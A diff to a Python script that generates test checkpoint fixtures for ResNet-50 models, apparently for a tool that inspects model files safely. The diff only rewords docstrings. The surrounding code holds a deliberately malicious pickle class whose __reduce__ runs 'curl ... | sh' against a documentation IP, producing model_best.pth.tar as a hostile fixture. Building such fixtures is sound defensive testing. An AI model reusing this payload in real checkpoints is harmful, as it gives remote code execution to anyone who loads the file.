@@ -3,14 +3,14 @@
 
     scenarios.py [FOLDER]
 
-They go to build/scenarios/; files that are up to date are left alone, without loading
+They go to build/scenarios/; files that are up to date are kept, without loading
 torch. model_best.pth.tar is hostile on purpose: never load it with pickle.
 
     resnet50.pth        a state_dict, seed 0
     finetuned.pth       the same after 20 steps on noise: layer4 trained, fc replaced
     parallel.pth        resnet50.pth as DataParallel would save it
     model_best.pth.tar  a checkpoint that would run a program when loaded
-    lightning.ckpt      a checkpoint that names classes of its author's
+    lightning.ckpt      a checkpoint that names classes of its author
     cut.ckpt            the same, cut in its pickle
     live.scope          a forward pass of ResNet-50, layer1 kept
     raised.scope        a pass that ended in a shape error
@@ -40,7 +40,7 @@ def digest():
 
 
 class Runs:
-    """Pickled as a call of a function that nobody should call."""
+    """Pickled as a call of a dangerous function."""
 
     def __reduce__(self):
         return os.system, ("curl -s http://203.0.113.7/x.sh | sh",)
@@ -134,7 +134,7 @@ def recordings(folder, torch, nn, models):
 
 
 def chain(folder, torch, nn, modules=100_000):
-    """Two modules stand in turn; their tensors are views of one storage, so that the
+    """Two modules alternate; their tensors are views of one storage, so that the
     archive stays small."""
     net = nn.Sequential()
     weight = nn.Parameter(torch.zeros(16, 16))
